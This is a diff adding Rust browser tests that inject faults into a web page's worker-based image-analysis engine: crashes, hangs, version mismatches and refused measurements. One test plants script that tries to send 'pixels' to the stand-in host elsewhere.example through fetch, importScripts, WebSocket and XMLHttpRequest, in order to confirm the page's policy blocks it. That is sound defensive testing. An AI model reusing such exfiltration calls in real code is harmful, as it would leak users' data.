@@ -1,0 +1,189 @@
+//! An engine that ends, hangs, or is of another version; and what it may reach.
+
+use super::*;
+
+/// The first bytes of requests, which name their kinds: their places among the requests.
+const READ_REQUEST: u8 = 1;
+const MEASURE_REQUEST: u8 = 5;
+
+/// Runs `script` in the engine in place of what it does with a request of this kind.
+fn at_request(kind: u8, script: &str) -> Result<Vec<u8>> {
+    engine_after(&format!(
+        "const listen = self.addEventListener.bind(self);
+        self.addEventListener = (name, hear) => listen(name, event => {{
+            const data = event.data;
+            if (name === 'message' && data instanceof Uint8Array && data[0] === {kind}) {{ {script} }}
+            else hear(event);
+        }});"
+    ))
+}
+
+/// Lets the next beat of the page's heart be the last that it waits for.
+const HURRY: &str = "const set = self.setInterval.bind(self);
+    self.setInterval = (beat, every) => set(() => {
+        for (let beats = self.hurry ? 100 : 1; beats > 0; beats--) beat();
+    }, every);";
+
+#[tokio::test]
+async fn an_engine_that_ends_in_any_way_ends_the_waiting_and_can_be_loaded_again() -> Result<()> {
+    let ends = [
+        (
+            "an exception",
+            "setTimeout(() => { throw new Error('it broke') })",
+        ),
+        (
+            "a trap",
+            "Promise.reject(new WebAssembly.RuntimeError('unreachable'))",
+        ),
+        (
+            "no sense",
+            "postMessage(new Uint8Array([255, 255, 255, 255]))",
+        ),
+    ];
+    for (name, script) in ends {
+        let server = Server::start()?;
+        server.answer_instead("engine.js", at_request(READ_REQUEST, script)?);
+        let page = open(&server, "?device=cpu").await?;
+        page.element("sample-1").await?.click().await?;
+        page.wait_for_error("The engine stopped", READ)
+            .await
+            .context(name)?;
+        ensure!(page.state().await? == "error", "{name}");
+        if name == "a trap" {
+            page.screenshot("wide-engine-ended").await?;
+        }
+        // The next engine is sound, and reads what was given.
+        server.answer_instead("engine.js", engine_after("")?);
+        let again = page.driver.find(By::Css(".remedies button")).await?;
+        again.click().await?;
+        page.wait_for(&["ready"], LOAD).await.context(name)?;
+        assert_scores_are_native(&page, &sample("effusion.jpg")).await?;
+        page.close().await?;
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn an_engine_that_ends_or_hangs_without_a_word_is_noticed() -> Result<()> {
+    for script in ["self.close()", "for (;;) {}"] {
+        let server = Server::start()?;
+        server.answer_instead("engine.js", at_request(READ_REQUEST, script)?);
+        let page = open(&server, "?device=cpu").await?;
+        page.reload_with(HURRY).await?;
+        page.wait_for(&["idle"], LOAD).await?;
+        page.element("sample-1").await?.click().await?;
+        page.wait_for(&["reading"], READ).await?;
+        // As if it had been silent for minutes.
+        page.script("window.hurry = true", vec![]).await?;
+        page.wait_for_error("does not answer", READ)
+            .await
+            .context(script)?;
+        page.close().await?;
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn an_engine_that_cannot_be_loaded_says_so() -> Result<()> {
+    for (file, bytes) in [
+        ("engine.js", &b"no program ("[..]),
+        ("engine_bg.wasm", b"no wasm"),
+        ("engine.js", b"throw new Error('not today')"),
+    ] {
+        let server = Server::start()?;
+        server.answer_instead(file, bytes.to_vec());
+        let page = Page::open(&server, "?device=cpu", Options::default()).await?;
+        page.wait_for_error("The engine could not be loaded", LOAD)
+            .await
+            .context(file)?;
+        page.close().await?;
+    }
+    Ok(())
+}
+
+#[tokio::test]
+async fn an_engine_of_another_version_is_not_used_and_the_page_says_to_reload() -> Result<()> {
+    let server = Server::start()?;
+    let other = "const post = self.postMessage.bind(self);
+        self.postMessage = (said, ...rest) =>
+            post(typeof said === 'string' && said.startsWith('ready') ? 'ready another' : said, ...rest);";
+    server.answer_instead("engine.js", engine_after(other)?);
+    let page = Page::open(&server, "?device=cpu", Options::default()).await?;
+    page.wait_for_error("updated on its server", LOAD).await?;
+    let (name, _) = model()?;
+    let weights = server.count(&format!("models/{name}/weights.bpk"));
+    ensure!(weights == 0, "the other version was told to load a model");
+    page.screenshot("wide-other-version").await?;
+    // What the page offers is enough.
+    server.answer_instead("engine.js", engine_after("")?);
+    let reload = page.driver.find(By::Css(".remedies button")).await?;
+    reload.click().await?;
+    page.wait_for(&["idle"], LOAD).await?;
+    page.close().await
+}
+
+/// A worker from a file would have the policy of that file's headers: none, from most servers.
+#[tokio::test]
+async fn the_pages_policy_binds_its_engine_and_the_engines_helpers() -> Result<()> {
+    let server = Server::start()?;
+    // Every engine, helpers too, tries to send something elsewhere, before it does what it should.
+    let leaks = "Object.defineProperty(navigator, 'hardwareConcurrency', { value: 2 });
+        const away = 'http://elsewhere.example/pixels';
+        fetch(away, { method: 'POST', body: 'pixels', mode: 'no-cors' }).catch(() => {});
+        try { importScripts(away); } catch {}
+        try { new WebSocket('ws://elsewhere.example/pixels'); } catch {}
+        try { const ask = new XMLHttpRequest(); ask.open('GET', away, false); ask.send(); } catch {}
+        fetch('/it-tried').catch(() => {});";
+    server.answer_instead("engine.js", engine_after(leaks)?);
+    let page = open(&server, "?device=cpu").await?;
+    page.element("sample-1").await?.click().await?;
+    page.wait_for(&["ready"], READ).await?;
+    choose(&page, "lime-samples", "50").await?;
+    choose(&page, "explain-method", "lime").await?;
+    page.wait_for(&["explaining"], READ).await?;
+    page.wait_for(&["ready"], SLOW).await?;
+    let tried = server.count("it-tried");
+    ensure!(tried == 2, "{tried} engines tried: there is little to see");
+    ensure!(
+        server.foreign().is_empty(),
+        "requests left the origin: {:?}",
+        server.foreign()
+    );
+    page.close().await
+}
+
+#[tokio::test]
+async fn a_refused_measurement_leaves_the_picture_and_everything_else_usable() -> Result<()> {
+    let server = Server::start()?;
+    let refused = bincode::serialize(&Answer::Refused {
+        what: What::Job(0),
+        why: "The finding was not trained.".to_owned(),
+    })?;
+    // The number of the reading comes behind the kind of the request, and in the answer behind two kinds.
+    let script = format!(
+        "const refused = new Uint8Array({refused:?});
+        refused.set(data.slice(4, 8), 8);
+        postMessage(refused);"
+    );
+    server.answer_instead("engine.js", at_request(MEASURE_REQUEST, &script)?);
+    let page = open(&server, "?device=cpu").await?;
+    page.element("sample-1").await?.click().await?;
+    page.wait_for(&["ready"], READ).await?;
+    page.element("measure").await?.click().await?;
+    page.wait_for_error("not trained", READ).await?;
+    page.screenshot("wide-job-refused").await?;
+    ensure!(page.state().await? == "ready", "{}", page.state().await?);
+    assert_scores_are_native(&page, &sample("effusion.jpg")).await?;
+    page.element("dismiss").await?.click().await?;
+    ensure!(!page.exists("error").await?, "the complaint is still shown");
+    // Painting, another job and another model go on with the same picture.
+    page.element("easel").await?.click().await?;
+    page.element("undo").await?;
+    choose(&page, "lime-samples", "50").await?;
+    choose(&page, "explain-method", "lime").await?;
+    page.wait_for(&["explaining"], READ).await?;
+    page.wait_for(&["ready"], SLOW).await?;
+    choose(&page, "model-select", "densenet121-nih").await?;
+    page.wait_for(&["explaining", "ready"], LOAD).await?;
+    page.close().await
+}
